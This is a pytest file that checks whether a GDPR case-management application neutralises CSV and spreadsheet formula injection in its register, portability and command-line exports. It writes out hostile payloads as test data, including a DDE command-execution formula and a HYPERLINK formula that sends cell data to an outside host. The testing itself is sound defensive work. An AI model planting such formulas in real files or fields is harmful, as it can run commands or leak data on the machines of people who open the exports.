"""Hostile names never become live formulas in the exports (OWASP CSV injection payloads)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.cli import main
from app.core.enums import RequestType
from app.core.errors import ValidationError
from app.core.spreadsheet import neutralise
from app.core.validation import CaseInput
from app.data.database import Database
from app.data.models import Requester
from app.reports.portability import PortableRecord, write_portability_zip
from app.services.cases import register_case
from app.services.changes import suppress, suppression_csv
from app.services.register import export_processing_register as export_art30
from app.services.register import save_activity
from app.services.reports import export_request_register
from tests.csv_payloads import payloads

PAYLOADS = payloads()
TODAY = date(2026, 11, 24)


def _register(db: Database, last_name: str, city: str = "Ede") -> str | None:
    try:
        return register_case(
            db,
            actor="o",
            data=CaseInput(
                request_types=(RequestType.ACCESS,),
                received_on=date(2026, 11, 2),
                last_name=last_name,
                street="Dorp 1",
                postcode="1234 AB",
                city=city,
                email="berg@example.nl",
            ),
            today=TODAY,
        )
    except ValidationError:
        return None  # refused at the field (control characters): cannot reach an export


@pytest.fixture
def hostile(sqlite_db: Database) -> list[str]:
    """Cases named after every payload the intake accepts; returns the stored names."""
    for payload in PAYLOADS:
        _register(sqlite_db, payload, city=payload)
    with sqlite_db.session() as session:
        names = list(session.scalars(select(Requester.last_name).order_by(Requester.id)))
    assert '=HYPERLINK("http://x?"&B2,"klik")' in names
    assert "=cmd|' /C calc'!A0" in names and "+31 6 12345678" in names
    return names


def _export(db: Database, path: Path, fmt: str) -> None:
    export_request_register(
        db, path=path, received_from=date(2026, 1, 1), received_to=date(2026, 12, 31), fmt=fmt,
        with_personal_data=True, lang="en", today=TODAY,
    )  # fmt: skip


def test_register_xlsx_keeps_every_name_as_exact_text(
    sqlite_db: Database, hostile: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "register.xlsx"
    _export(sqlite_db, path, "xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        for sheet_name in sheets:
            xml = archive.read(sheet_name).decode()
            assert "<f>" not in xml and "<f " not in xml  # not one formula cell
    sheet = load_workbook(path).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    name_col, city_col = header.index("Name"), header.index("City")
    rows = list(sheet.iter_rows(min_row=2))
    assert [r[name_col].value for r in rows] == hostile  # exact: no quote, nothing dropped
    assert [r[city_col].value for r in rows] == hostile
    assert all(r[name_col].data_type == "s" for r in rows)


def test_register_csv_quotes_every_field_and_neutralises_formulas(
    sqlite_db: Database, hostile: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "register.csv"
    _export(sqlite_db, path, "csv")
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    names = [r[header.index("Name")] for r in body]
    assert names == [neutralise(n) for n in hostile]
    assert "'=cmd|' /C calc'!A0" in names and "'+31 6 12345678" in names
    for line in text.splitlines()[:3]:
        assert line.startswith('"') and line.endswith('"')  # QUOTE_ALL


def test_art30_register_csv_is_neutralised(sqlite_db: Database) -> None:
    for index, payload in enumerate(PAYLOADS[:8]):
        save_activity(
            sqlite_db, actor="o",
            values={"name": f"Activity {index}", "purposes": payload, "legal_basis": payload,
                    "retention": "2 jaar"},
        )  # fmt: skip
    data = export_art30(sqlite_db, fmt="csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data, newline=""), delimiter=";"))
    ours = [r for r in rows if r["name"].startswith("Activity ")]
    assert [r["purposes"] for r in ours] == ["'" + p for p in PAYLOADS[:8]]
    assert data.startswith('"')
    exact = json.loads(export_art30(sqlite_db, fmt="json"))
    assert [a["purposes"] for a in exact if a["name"].startswith("Activity ")] == PAYLOADS[:8]


def test_suppression_list_csv_is_quoted(sqlite_db: Database) -> None:
    reference = _register(sqlite_db, "Berg")
    assert reference is not None
    assert suppress(sqlite_db, actor="o", reference=reference, email="-x@example.nl", today=TODAY)
    text = suppression_csv(sqlite_db).decode()
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ["email", "sha256", "added_on"]
    assert rows[1][0] == "'-x@example.nl" and rows[1][2] == TODAY.isoformat()


def test_portability_csv_neutralised_and_json_unaltered(tmp_path: Path) -> None:
    fields = tuple((f"field{i}", p) for i, p in enumerate(PAYLOADS))
    record = PortableRecord("Portal", "42", "customers", ("contact",), "email", "strong", fields)
    path = tmp_path / "export.zip"
    write_portability_zip(
        path, reference="2026-0001", organisation="Org", created=datetime(2026, 11, 24, tzinfo=UTC),
        records=[record],
    )  # fmt: skip
    with zipfile.ZipFile(path) as archive:
        data_csv = archive.read("data.csv").decode("utf-8-sig")
        data_json = json.loads(archive.read("data.json"))
    rows = list(csv.reader(io.StringIO(data_csv, newline="")))
    value_col = rows[0].index("value")
    assert [r[value_col] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert list(data_json["records"][0]["fields"].values()) == PAYLOADS


def test_cli_case_list_csv_is_neutralised(
    sqlite_db: Database, hostile: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--db", sqlite_db.url, "case", "list", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out, newline="")))
    names = {r[rows[0].index("name")] for r in rows[1:]}
    assert "'=cmd|' /C calc'!A0" in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_xlsx_writer_keeps_every_payload_exact(tmp_path: Path) -> None:
    """Also the tab and carriage-return payloads that the intake does not let through."""
    from app.reports.register_export import Column, write_xlsx

    cols = [Column("name", "Name", 20, False), Column("days", "Days", 5, False)]
    rows = iter([{"name": p, "days": -2} for p in PAYLOADS])
    path = tmp_path / "payloads.xlsx"
    assert write_xlsx(rows, cols, path, sheet_title="t") == len(PAYLOADS)
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(path).active
    assert sheet is not None

    # A control character is stored as the OOXML escape _xHHHH_ (ECMA-376 Part 1, 22.9.2.19),
    # which Excel and LibreOffice decode; openpyxl leaves it as it is, so decode it here.
    def decoded(text: str) -> str:
        return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)

    assert [decoded(r[0].value) for r in sheet.iter_rows(min_row=2)] == PAYLOADS
    assert {r[1].value for r in sheet.iter_rows(min_row=2)} == {-2}  # numbers stay numbers
